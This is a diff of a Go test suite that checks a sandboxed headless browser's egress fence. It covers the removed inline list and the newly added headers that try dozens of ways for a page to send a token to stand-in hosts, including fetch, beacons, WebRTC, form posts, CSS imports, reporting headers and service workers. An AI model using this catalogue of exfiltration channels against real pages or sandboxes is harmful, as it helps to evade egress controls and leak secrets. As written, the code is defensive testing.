@@ -1,10 +1,20 @@
 package browser_test
 
 import (
+	"context"
+	_ "embed"
+	"encoding/pem"
 	"fmt"
+	"io"
+	"log"
+	"maps"
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"slices"
+	"strconv"
 	"strings"
 	"sync"
 	"sync/atomic"
@@ -15,89 +25,71 @@ import (
 	"github.com/webchatspec/webchatspec/fixtures/keys"
 )
 
-// waysOut are what a page can do to send something to a host: HOST is its address
-// and DATAGRAMS that of a listener for UDP there.
-const waysOut = `
-fetch("http://HOST/fetch?t=" + token, {mode: "no-cors"}).catch(() => {});
-fetch("http://HOST/keepalive?t=" + token, {mode: "no-cors", keepalive: true}).catch(() => {});
-try { const x = new XMLHttpRequest(); x.open("GET", "http://HOST/xhr?t=" + token); x.send(); } catch {}
-navigator.sendBeacon("http://HOST/beacon", token);
-try { new WebSocket("ws://HOST/websocket?t=" + token); } catch {}
-try { new EventSource("http://HOST/eventsource?t=" + token); } catch {}
-try { new WebTransport("https://DATAGRAMS/webtransport?t=" + token).closed.catch(() => {}); } catch {}
-new Image().src = "http://HOST/image?t=" + token;
-new Audio("http://HOST/audio?t=" + token).load();
-import("http://HOST/import.js?t=" + token).catch(() => {});
-const add = (name, attributes, text) => {
-	const e = document.createElement(name);
-	for (const [key, value] of Object.entries(attributes)) e.setAttribute(key, value);
-	if (text) e.textContent = text;
-	document.body.append(e);
-	return e;
-};
-add("script", {src: "http://HOST/script.js?t=" + token});
-add("iframe", {src: "http://HOST/iframe?t=" + token});
-add("object", {data: "http://HOST/object?t=" + token});
-add("embed", {src: "http://HOST/embed?t=" + token});
-add("video", {src: "http://HOST/video?t=" + token, poster: "http://HOST/poster?t=" + token});
-add("style", {}, "@import url(http://HOST/import.css?t=" + token + "); body { background: url(http://HOST/background?t=" + token + ") } @font-face { font-family: f; src: url(http://HOST/font?t=" + token + ") } p { font-family: f }");
-add("p", {}, "text in that font");
-for (const rel of ["stylesheet", "prefetch", "preconnect", "dns-prefetch", "modulepreload", "icon", "manifest"])
-	add("link", {rel, href: "http://HOST/" + rel + "?t=" + token});
-add("link", {rel: "preload", as: "image", href: "http://HOST/preload?t=" + token});
-add("script", {type: "speculationrules"}, JSON.stringify({prefetch: [{source: "list", urls: ["http://HOST/speculation?t=" + token]}]}));
-add("a", {href: "#ping", ping: "http://HOST/ping?t=" + token}).click();
-add("iframe", {name: "form"});
-const form = add("form", {action: "http://HOST/form", method: "post", target: "form"});
-form.innerHTML = "<input name=t value=" + token + ">";
-form.submit();
-add("iframe", {srcdoc: "<meta http-equiv=refresh content='0; url=http://HOST/refresh?t=" + token + "'>"});
-try { new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/worker?t=" + token + "', {mode: 'no-cors'}).catch(() => {}); importScripts('http://HOST/importscripts?t=" + token + "')"]))); } catch {}
-try { new SharedWorker("data:text/javascript,fetch('http://HOST/sharedworker?t=" + token + "', {mode: 'no-cors'}).catch(() => {})"); } catch {}
-for (const urls of ["stun:DATAGRAMS", "turn:DATAGRAMS?transport=udp", "turn:HOST?transport=tcp", "turns:HOST?transport=tcp"]) {
-	try {
-		const peer = new RTCPeerConnection({iceServers: [{urls, username: token, credential: token}]});
-		peer.createDataChannel("out");
-		peer.createOffer().then(offer => peer.setLocalDescription(offer));
-		const [ip, port] = "DATAGRAMS".split(":");
-		peer.createOffer().then(() => peer.addIceCandidate({candidate: "candidate:1 1 udp 1 " + ip + " " + port + " typ host ufrag " + token, sdpMid: "0"})).catch(() => {});
-	} catch {}
+//go:embed testdata/waysout.js
+var waysOut string
+
+// inHeaders are ways out that the headers of an answer open.
+const inHeaders = `Link: <http://HOST/link-header>; rel=preload; as=image
+Content-Security-Policy-Report-Only: default-src 'none'; report-uri http://HOST/csp-report
+Content-Security-Policy-Report-Only: script-src 'none'; report-to reports
+Reporting-Endpoints: reports="https://SECURE/reports", default="https://SECURE/reports"
+Report-To: {"group":"nel","max_age":99,"endpoints":[{"url":"https://SECURE/nel"}]}
+NEL: {"report_to":"nel","max_age":99,"success_fraction":1}
+Alt-Svc: h3="DATAGRAMS"; ma=99`
+
+// beside is the script of a service worker that asks the host in its address.
+const beside = `
+const host = new URL(location).searchParams.get("host");
+if (host) {
+	fetch("http://" + host + "/serviceworker", {mode: "no-cors"}).catch(() => {});
+	try { importScripts("http://" + host + "/serviceworker-import.js"); } catch {}
 }
 `
 
 // trap counts what arrives at an address.
 type trap struct {
-	host, datagrams string
-	connections     atomic.Int64
-	packets         atomic.Int64
-	mu              sync.Mutex
-	paths           map[string]bool
+	host, datagrams, secure, name string
+	authority                     []byte // PEM, of its certificate
+	connections, packets          atomic.Int64
+	mu                            sync.Mutex
+	paths                         map[string]bool
 }
 
-func setTrap(t *testing.T, ip string) *trap {
+// setTrap listens at an address of this machine, on TCP, with and without TLS, and on
+// UDP. Name leads to the one with TLS where anybody says so.
+func setTrap(t *testing.T, ip, name string) *trap {
 	t.Helper()
-	tr := &trap{paths: map[string]bool{}}
-	listener, err := net.Listen("tcp", ip+":0")
-	if err != nil {
-		t.Skipf("there is no other address of this machine to listen on: %v", err)
+	tr := &trap{name: name, paths: map[string]bool{}}
+	listen := func() net.Listener {
+		listener, err := net.Listen("tcp", ip+":0")
+		if err != nil {
+			t.Skipf("there is no other address of this machine to listen on: %v", err)
+		}
+		return listener
 	}
 	packets, err := net.ListenPacket("udp", ip+":0")
 	if err != nil {
 		t.Fatal(err)
 	}
-	server := &httptest.Server{Listener: listener, Config: &http.Server{
-		Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
-			tr.mu.Lock()
-			defer tr.mu.Unlock()
-			tr.paths[r.URL.Path] = true
-		}),
-		ConnState: func(_ net.Conn, state http.ConnState) {
-			if state == http.StateNew {
-				tr.connections.Add(1)
-			}
-		},
-	}}
+	config := func() *http.Server {
+		return &http.Server{
+			ErrorLog: log.New(io.Discard, "", 0),
+			Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
+				tr.mu.Lock()
+				defer tr.mu.Unlock()
+				tr.paths[r.URL.Path] = true
+			}),
+			ConnState: func(_ net.Conn, state http.ConnState) {
+				if state == http.StateNew {
+					tr.connections.Add(1)
+				}
+			},
+		}
+	}
+	server := &httptest.Server{Listener: listen(), Config: config()}
 	server.Start()
+	secured := &httptest.Server{Listener: listen(), Config: config()}
+	secured.StartTLS()
 	go func() {
 		for buffer := make([]byte, 2048); ; {
 			if _, _, err := packets.ReadFrom(buffer); err != nil {
@@ -106,9 +98,41 @@ func setTrap(t *testing.T, ip string) *trap {
 			tr.packets.Add(1)
 		}
 	}()
-	t.Cleanup(func() { server.CloseClientConnections(); server.Close(); _ = packets.Close() })
-	tr.host, tr.datagrams = listener.Addr().String(), packets.LocalAddr().String()
+	t.Cleanup(func() {
+		for _, server := range []*httptest.Server{server, secured} {
+			server.CloseClientConnections()
+			server.Close()
+		}
+		_ = packets.Close()
+	})
+	tr.host, tr.secure, tr.datagrams = server.Listener.Addr().String(), secured.Listener.Addr().String(), packets.LocalAddr().String()
+	tr.authority = pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: secured.Certificate().Raw})
 	return tr
+}
+
+// arrived says how much arrived, and by which ways.
+func (tr *trap) arrived() string {
+	tr.mu.Lock()
+	defer tr.mu.Unlock()
+	return fmt.Sprintf("%d connections, %d datagrams: %v", tr.connections.Load(), tr.packets.Load(), slices.Sorted(maps.Keys(tr.paths)))
+}
+
+// waysThatWork are those of which it is shown that they lead out where they may: of
+// the others, which want a browser of another kind or a user who agrees, it is only
+// seen that nothing comes of them.
+var waysThatWork = strings.Fields(`
+	background beacon border cache content csp-report cursor data-frame download embed eventsource fetch
+	fetchlater font fontface form iframe image import.css import.js importscripts input keepalive
+	link-compression-dictionary link-header link-modulepreload link-prefetch link-stylesheet list location
+	mask module.js object paintworklet payment ping poster preload refresh script.js serviceworker
+	serviceworker-import.js sharedworker srcset svg-filter svg-image tls track wasm websocket worker
+	worker-websocket xhr`)
+
+// missing are the ways that work, of those that nothing has arrived by.
+func (tr *trap) missing() []string {
+	tr.mu.Lock()
+	defer tr.mu.Unlock()
+	return slices.DeleteFunc(slices.Clone(waysThatWork), func(way string) bool { return tr.paths["/"+way] })
 }
 
 // A page reaches no host that is not allowed, whatever it tries, and no proxy of
@@ -116,7 +140,7 @@ func setTrap(t *testing.T, ip string) *trap {
 func TestNothingLeavesTheFence(t *testing.T) {
 	for name, proxied := range map[string]bool{"without a proxy": false, "with a proxy": true} {
 		t.Run(name, func(t *testing.T) {
-			outside, proxy, allowed := setTrap(t, "127.0.0.3"), setTrap(t, "127.0.0.4"), setTrap(t, "127.0.0.1")
+			outside, proxy, allowed := setTrap(t, "127.0.0.3", "outside.example"), setTrap(t, "127.0.0.4", ""), setTrap(t, "127.0.0.1", "allowed.example")
 			for _, name := range []string{"HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"} {
 				value := ""
 				if proxied {
@@ -124,37 +148,115 @@ func TestNothingLeavesTheFence(t *testing.T) {
 				}
 				t.Setenv(name, value)
 			}
-			tryEveryWayOut(t, outside, allowed)
+			opened := programsOpened(t)
+			tryEveryWayOut(t, browser.Config{
+				Endpoint: "https://" + allowed.secure + "/token", CA: allowed.authority, Resolve: map[string]string{allowed.name + ":443": allowed.secure},
+			}, func() bool { return len(allowed.missing()) == 0 }, allowed, outside)
 			for name, trap := range map[string]*trap{"a host that is not allowed": outside, "the proxy of the environment": proxy} {
-				if connections, packets := trap.connections.Load(), trap.packets.Load(); connections+packets > 0 {
-					t.Errorf("%s got %d connections and %d datagrams: %v", name, connections, packets, trap.paths)
+				if trap.connections.Load()+trap.packets.Load() > 0 {
+					t.Errorf("%s got %s", name, trap.arrived())
 				}
 			}
 			if packets := allowed.packets.Load(); packets > 0 {
 				t.Errorf("%d datagrams were sent, which no fence sees", packets)
 			}
-			if len(allowed.paths) < 20 {
-				t.Errorf("only %d ways reach the host that is allowed, so that the others prove nothing: %v", len(allowed.paths), allowed.paths)
+			if missing := allowed.missing(); len(missing) > 0 {
+				t.Errorf("%v do not reach the host that is allowed, so that they prove nothing elsewhere", missing)
+			}
+			if programs, err := os.ReadFile(opened); err == nil && strings.Contains(string(programs), "c2VjcmV0") {
+				t.Errorf("the browser has given the token to other programs: %s", programs)
 			}
 		})
 	}
 }
 
-// tryEveryWayOut opens a page that tries every way out, to each of the hosts.
-func tryEveryWayOut(t *testing.T, hosts ...*trap) {
+// programsOpened puts programs before those of the system by which a browser opens
+// addresses with others, and returns the file in which they note what they are given.
+func programsOpened(t *testing.T) string {
+	folder := t.TempDir()
+	file := filepath.Join(folder, "opened")
+	for _, name := range []string{"xdg-open", "xdg-email", "gio", "kde-open"} {
+		if err := os.WriteFile(filepath.Join(folder, name), []byte("#!/bin/sh\necho $0 \"$@\" >> "+file+"\n"), 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Setenv("PATH", folder+string(os.PathListSeparator)+os.Getenv("PATH"))
+	return file
+}
+
+// tryLimit is how long a page has for its tries; it takes a few seconds on a machine
+// that is not busy. Afterwards is how long what it has begun has.
+const tryLimit, afterwards = 30 * time.Second, time.Second
+
+// tryEveryWayOut opens a page that tries every way out, to each of the hosts, until all
+// is tried and done.
+func tryEveryWayOut(t *testing.T, config browser.Config, done func() bool, hosts ...*trap) {
 	t.Helper()
+	var tried atomic.Int64
 	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/tried":
+			tried.Add(1)
+			return
+		case "/worker.js":
+			w.Header().Set("Content-Type", "text/javascript")
+			fmt.Fprint(w, beside)
+			return
+		}
+		for _, to := range hosts {
+			for line := range strings.Lines(to.fill(inHeaders)) {
+				name, value, _ := strings.Cut(strings.TrimSpace(line), ": ")
+				w.Header().Add(name, value)
+			}
+		}
 		w.Header().Set("Content-Type", "text/html")
 		fmt.Fprint(w, "<!doctype html><body><script>const token = 'c2VjcmV0';</script>")
-		for _, to := range hosts {
-			fmt.Fprintf(w, "<script>{%s}</script>", strings.NewReplacer("HOST", to.host, "DATAGRAMS", to.datagrams).Replace(waysOut))
+		for i, to := range hosts {
+			fmt.Fprintf(w, "<script>{%s}</script>", strings.ReplaceAll(to.fill(waysOut)+"\nfetch('/tried');", "NUMBER", strconv.Itoa(i)))
 		}
 	}))
 	defer site.Close()
-	page, err := browser.Gather(t.Context(), browser.Config{
-		Page: site.URL, PublicKeys: []string{keys.PublicPEM(&keys.For("fence").PublicKey)}, Timeout: 4 * time.Second,
-	}, nil)
-	if page == nil || len(page.Visits) == 0 {
+	config.Page, config.PublicKeys, config.Timeout = site.URL, []string{keys.PublicPEM(&keys.For("fence").PublicKey)}, tryLimit
+	ctx, cancel := context.WithTimeout(t.Context(), tryLimit)
+	defer cancel()
+	all := func() bool { return tried.Load() >= int64(len(hosts)) && done() }
+	go func() {
+		for !all() && ctx.Err() == nil {
+			time.Sleep(50 * time.Millisecond)
+		}
+		time.Sleep(afterwards)
+		cancel()
+	}()
+	if page, err := browser.Gather(ctx, config, nil); page == nil || len(page.Visits) == 0 {
 		t.Fatalf("the page was not visited: %v", err)
+	}
+	if tried.Load() < int64(len(hosts)) {
+		t.Errorf("not all ways were tried, so that this proves nothing")
+	}
+}
+
+// fill puts the addresses of the trap into a text.
+func (tr *trap) fill(text string) string {
+	return strings.NewReplacer("HOST", tr.host, "DATAGRAMS", tr.datagrams, "SECURE", tr.secure, "NAME", tr.name).Replace(text)
+}
+
+// A browser that has another way out, as a policy of the machine may give it, is not
+// given the page.
+func TestABrowserWithAnotherWayOutGetsNoPage(t *testing.T) {
+	path, err := browser.Find()
+	if err != nil {
+		t.Fatal(err)
+	}
+	wrapper := filepath.Join(t.TempDir(), "chromium")
+	script := "#!/bin/sh\nfor a do shift; case $a in --proxy-server=*) ;; *) set -- \"$@\" \"$a\";; esac; done\nexec " + path + " \"$@\"\n"
+	if err := os.WriteFile(wrapper, []byte(script), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	var asked atomic.Int64
+	site := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked.Add(1) }))
+	defer site.Close()
+	_, err = browser.Gather(t.Context(), browser.Config{Page: site.URL, Chromium: wrapper, PublicKeys: []string{keys.PublicPEM(&keys.For("fence").PublicKey)}}, nil)
+	if err == nil || !strings.Contains(err.Error(), "policy") || asked.Load() > 0 {
+		t.Errorf("%d requests, %v", asked.Load(), err)
 	}
 }
